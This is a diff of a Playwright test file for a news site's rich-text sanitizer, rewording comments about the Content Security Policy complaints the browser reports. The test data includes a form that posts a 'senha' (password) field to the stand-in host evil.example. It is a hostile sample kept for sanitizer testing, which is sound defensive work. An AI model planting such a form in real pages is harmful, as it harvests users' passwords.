@@ -14,7 +14,7 @@ const SENT = `
   <form action="https://evil.example/"><input name="senha"><button>Enviar dados</button></form>
   <ul><li>Um item</li></ul>`
 
-// The browser reports the handlers that it was kept from running while they were being removed.
+// The browser reports the event handlers that it blocks, until the sanitizer has removed them.
 test.use({ expectedComplaints: [/inline event handler violates/] })
 
 test('rich text is made safe in the browser too, even where the API does not clean it', async ({ page }) => {
@@ -37,7 +37,7 @@ test('rich text is made safe in the browser too, even where the API does not cle
 })
 
 test.describe('the sanitizer', () => {
-  // Parsing the vectors, the browser reports what it will not apply.
+  // The browser reports the styles and scripts that it blocks when it parses the hostile texts.
   test.use({ expectedComplaints: [/violates the following Content Security Policy/] })
 
   test('comes with the first text, and makes of each what the server would', async ({ page }) => {
@@ -68,7 +68,7 @@ const FORMULA = '<p>Antes</p><p><span data-formula="\\sqrt{2}">\\sqrt{2}</span><
 const VIDEO = '<iframe src="https://www.youtube.com/embed/aqz-KE-bpKQ" title="Abertura"></iframe>'
 const TABELA = `<table dir="rtl"><tr>${'<td>Uma-palavra-bem-comprida</td>'.repeat(12)}</tr></table>`
 
-/** Whichever notícia is asked for, its text is `descricao`. */
+/** Makes the API answer every notícia with the text `descricao`. */
 const answerWith = (page: Page, descricao: string) =>
   page.route('**/api/noticia/detalhes*', async (route) => {
     const response = await route.fetch()
